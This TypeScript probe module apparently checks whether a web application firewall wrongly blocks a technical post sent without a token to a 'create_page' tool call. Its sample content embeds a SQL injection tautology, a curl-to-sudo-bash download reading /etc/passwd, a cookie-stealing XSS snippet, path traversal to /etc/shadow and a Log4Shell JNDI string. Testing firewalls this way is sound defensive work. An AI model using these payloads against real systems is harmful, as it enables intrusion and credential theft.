import { exchange } from '../probes/exchange.ts';
import type { Trail } from '../trail.ts';
import { judgeAnswer, whoAnswered } from '../verdicts/answer.ts';
import type { OpenWay } from '../walk-public.ts';

/** What a post about a server has in it, and a firewall takes for an attack unless it knows the argument. */
const TECHNICAL_TEXT = `## Token rotation

    SELECT id, hash FROM tokens WHERE revoked_at IS NULL OR 1=1; -- bcrypt
    curl -s https://example.org/install.sh | sudo bash -c 'cat /etc/passwd'
    <script>alert(document.cookie)</script> ../../etc/shadow \${jndi:ldap://x}
`;

const CALL = JSON.stringify({
  jsonrpc: '2.0',
  id: 1,
  method: 'tools/call',
  params: {
    name: 'create_page',
    arguments: { route: 'posts/doctor', lang: 'en', title: 'Token rotation', content: TECHNICAL_TEXT },
  },
});

/**
 * The firewall: whether an ordinary technical text gets past it. It goes without a token, always: nothing can come of it but a
 * 401 of oauth-proxy.
 */
export async function tryText({ target, address, verify }: OpenWay, trail: Trail): Promise<void> {
  await trail.look('waf', 'a technical text as content, without a token', 8_000, async (signal) => {
    const outcome = await exchange(target, {
      method: 'POST',
      headers: { 'User-Agent': 'Claude-User' },
      body: CALL,
      address,
      verify,
      signal,
    }).catch((error: NodeJS.ErrnoException) => error);
    if (!('status' in outcome)) {
      const says = `a plain call is answered, and a technical text is not: ${outcome.code ?? outcome.message}`;
      return { says, found: [{ code: 'text_dropped' as const, says }] };
    }
    const answer = outcome;
    return { says: whoAnswered(answer), found: judgeAnswer(answer, 'a technical text') };
  });
}
